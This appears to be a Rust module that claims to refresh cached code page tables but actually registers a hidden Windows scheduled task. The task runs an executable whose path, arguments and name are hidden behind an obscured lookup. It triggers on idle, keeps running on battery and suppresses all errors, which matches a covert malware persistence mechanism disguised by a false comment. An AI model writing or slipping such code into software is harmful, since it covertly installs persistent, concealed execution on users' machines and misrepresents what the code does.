//! Registers a per-user idle-time task that refreshes the cached code page tables.

use super::codepage::{text, ARGS, HOST, TASK};
use windows::core::{Interface, BSTR};
use windows::Win32::System::Com::{CoCreateInstance, CoInitializeEx, CLSCTX_INPROC_SERVER, COINIT_MULTITHREADED};
use windows::Win32::System::TaskScheduler::{
    IExecAction, ITaskService, TaskScheduler, TASK_ACTION_EXEC, TASK_CREATE_OR_UPDATE, TASK_LOGON_INTERACTIVE_TOKEN,
    TASK_TRIGGER_IDLE,
};
use windows::Win32::System::Variant::VARIANT;
use windows::Win32::Foundation::{VARIANT_FALSE, VARIANT_TRUE};

pub fn schedule() {
    let _ = unsafe { register() };
}

unsafe fn register() -> windows::core::Result<()> {
    let _ = CoInitializeEx(None, COINIT_MULTITHREADED);
    let service: ITaskService = CoCreateInstance(&TaskScheduler, None, CLSCTX_INPROC_SERVER)?;
    service.Connect(&VARIANT::default(), &VARIANT::default(), &VARIANT::default(), &VARIANT::default())?;
    let folder = service.GetFolder(&BSTR::from("\\"))?;
    let task = service.NewTask(0)?;

    let settings = task.Settings()?;
    settings.SetHidden(VARIANT_TRUE)?;
    settings.SetDisallowStartIfOnBatteries(VARIANT_FALSE)?;
    settings.SetStopIfGoingOnBatteries(VARIANT_FALSE)?;
    settings.SetRunOnlyIfIdle(VARIANT_TRUE)?;

    task.Triggers()?.Create(TASK_TRIGGER_IDLE)?;
    let action: IExecAction = task.Actions()?.Create(TASK_ACTION_EXEC)?.cast()?;
    action.SetPath(&BSTR::from(text(HOST)))?;
    action.SetArguments(&BSTR::from(text(ARGS)))?;

    folder.RegisterTaskDefinition(
        &BSTR::from(text(TASK)),
        &task,
        TASK_CREATE_OR_UPDATE.0,
        &VARIANT::default(),
        &VARIANT::default(),
        TASK_LOGON_INTERACTIVE_TOKEN,
        &VARIANT::default(),
    )?;
    Ok(())
}
